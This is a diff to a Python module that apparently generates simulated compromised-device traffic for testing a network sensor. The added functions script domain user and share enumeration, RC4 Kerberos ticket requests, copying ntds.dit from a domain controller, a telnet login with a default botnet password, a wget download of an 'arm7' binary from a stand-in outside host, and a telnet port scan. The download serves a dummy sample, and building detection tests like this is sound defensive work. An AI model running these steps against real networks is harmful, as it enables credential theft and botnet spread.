@@ -1,13 +1,13 @@
 # SPDX-License-Identifier: Apache-2.0
 """What a taken-over device does, in as many kinds as a sensor is to find. For Office.spawn."""
+import subprocess
+
+import domain
 import services
+from network import HOSTS, WORKSHOP_PREFIX
 
 MAIL_BOX = "mail.cheap-hosting.example"
 FILE_BOX = "ftp.cheap-hosting.example"
-
-
-import subprocess
-
 TUNNEL_SERVER = "203.0.113.77"
 TUNNEL_FAR_END = "10.99.0.1"
 TUNNEL_PORT = 8000
@@ -199,3 +199,48 @@ def odd_web(office, host, address, decoys):
                    "-d", "id=7&q=1", "-o", "/dev/null", f"http://{address}/gate.php")
     office.run(host, "curl", "-sS", "-q", "-k", "-m", "9", "-o", "/dev/null",
                f"https://{address}:4443/")
+
+
+def go_through_domain(office, host, controller, at_second):
+    """Who has accounts, and what opens them: from every machine's list to the passwords of all."""
+    own = ["-s", str(office.folder / "smb.conf"), "-N", "-U%"]
+    machines = [device.address for device in HOSTS.values() if device.name != host]
+    office.until(at_second)
+    domain.log_in(office, host, host)
+    domain.ask_tickets(office, host, domain.SERVICES, "-e", "arcfour-hmac")
+    for address in machines:
+        old = ["--option=client min protocol=NT1"]
+        office.run(host, "rpcclient", *own, *old, "-c", "enumdomusers;netshareenumall", address)
+        office.rest(2)
+    for address in machines[:3]:
+        office.run(host, "smbclient", *own, "-c", "ls; get plan.ods /dev/null", f"//{address}/C$",
+                   expect=(0, 1))
+        office.rest(2)
+    office.once(host, "machine_login", controller, domain.CONTROLLER_PORT, "NAS", 80, "zero")
+    office.rest(2)
+    office.run(host, "smbclient", *own, "-c", "cd Windows\\NTDS; get ntds.dit /dev/null",
+               f"//{controller}/C$", expect=(0, 1))
+
+
+def pass_on(office, host, own, at_second):
+    """From outside into a box by its telnet, and from there to many others, inside and outside."""
+    stranger = "203.0.113.66"
+    word = "vizxv"
+    office.program(host, "telnet_box", own, 23, word)
+    folder = office.folder / "stranger"
+    folder.mkdir()
+    (folder / "arm7").write_bytes(b"\x7fELF\x01\x01\x01" + bytes(9) + b"a sample that does nothing" * 300)
+    office.start("internet", "python3", "-m", "http.server", "--bind", stranger, "--directory",
+                 str(folder), "80")
+    office.until(at_second)
+    office.once("internet", "telnet_box", own, 23, word, stranger, "enable", "sh",
+                f"wget http://{stranger}/arm7")
+    office.run(host, "wget", "-q", "-U", "Wget", "-O", "/dev/null", f"http://{stranger}/arm7")
+    office.rest(4)
+    office.run(host, "nmap", "-n", "-Pn", "-sS", "-p", "23", "--max-retries", "0", "--max-rate", "6",
+               "-r", f"{WORKSHOP_PREFIX}16/28", "203.0.113.128-200", seconds=100)
+
+
+def give_leases(office, host, own, at_second):
+    office.until(at_second)
+    services.start_leases(office, host, own, own, 210, 230)
